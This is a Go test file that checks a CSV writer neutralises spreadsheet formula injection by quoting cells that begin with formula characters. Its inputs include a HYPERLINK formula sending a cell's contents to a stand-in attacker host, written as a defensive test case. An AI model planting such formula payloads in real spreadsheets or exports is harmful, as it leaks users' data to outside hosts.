package tabular_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"backroom/app/tabular"
)

// Text that a spreadsheet would run as a formula comes out as text; figures stay figures.
func TestCSVNeutralisesFormulas(t *testing.T) {
	in := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+SUM(A1:A9)", "-2+3", "@cmd", "\tx", "\rx",
		"-12.50", "-$3.00", "1,250", "Coffee", "", "a=b"}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "'+SUM(A1:A9)", "'-2+3", "'@cmd", "'\tx", "'\rx",
		"-12.50", "-$3.00", "1,250", "Coffee", "", "a=b"}
	var buf bytes.Buffer
	err := tabular.Write(&buf, "csv", tabular.Table{Columns: make([]tabular.Column, len(in)), Rows: [][]string{in}})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, w := range want {
		if rows[1][i] != w {
			t.Errorf("cell %d = %q, want %q", i, rows[1][i], w)
		}
	}
}
